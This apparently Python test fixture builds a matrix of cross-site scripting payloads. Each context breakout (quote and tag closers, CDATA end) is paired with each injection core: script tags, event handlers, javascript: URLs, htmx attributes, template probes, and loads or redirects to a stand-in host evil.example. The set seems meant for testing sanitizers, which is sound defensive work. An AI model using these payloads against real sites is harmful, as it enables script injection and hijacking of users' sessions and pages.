"""Words that try to be something else: every core behind every way of getting out of where words stand."""

WAYS_OUT = [
    "",
    '">',
    "'>",
    "`>",
    '" ',
    "' ",
    "</textarea>",
    "</title>",
    "</option></select>",
    "</bdi></strong>",
    "--><!-- -->",
    "]]>",
]
CORES = [
    "<script>window.__xss=1</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=window.__xss=1>",
    "<img/src=x/onerror=window.__xss=1//",
    "<svg onload=window.__xss=1>",
    "<svg><script>window.__xss=1</script></svg>",
    "<math><mtext><style><img src=x onerror=window.__xss=1></style></mtext></math>",
    "<iframe srcdoc='<script>parent.__xss=1</script>'>",
    "<iframe src=javascript:window.__xss=1>",
    "<a href=javascript:window.__xss=1>press</a>",
    "<details open ontoggle=window.__xss=1>",
    "<input autofocus onfocus=window.__xss=1>",
    "<video><source onerror=window.__xss=1></video>",
    "<style>@import '//evil.example/x.css';</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>",
    "<form action=//evil.example><button>go</button></form>",
    "<object data=//evil.example></object><embed src=//evil.example>",
    "<noscript><p title='</noscript><img src=x onerror=window.__xss=1>'>",
    "<b hx-get=/evil/ hx-trigger=load>x</b>",
    "<b data-hx-post=/evil/ data-hx-trigger=load>x</b>",
    "<b hx-on:load=window.__xss=1>x</b>",
    "<b hx-swap-oob=true id=toasts>x</b>",
    "onmouseover=window.__xss=1 style=x:expression(1) ",
    "autofocus onfocus=window.__xss=1 x=",
    "{{ 7|add:7 }}{% debug %}${7*7}#{7*7}",
    "&lt;script&gt;window.__xss=1&lt;/script&gt;&#60;img&#62;&amp;lt;",
    "\u202eשלום<script>window.__xss=1</script>\u202c",
]
PAYLOADS = [way_out + core for way_out in WAYS_OUT for core in CORES]
ALL = " ".join(PAYLOADS)
PLAIN = ("Kind words. " * len(ALL))[: len(ALL)]
"""As long as all of them together, so that what is cut or wrapped is cut and wrapped in both."""
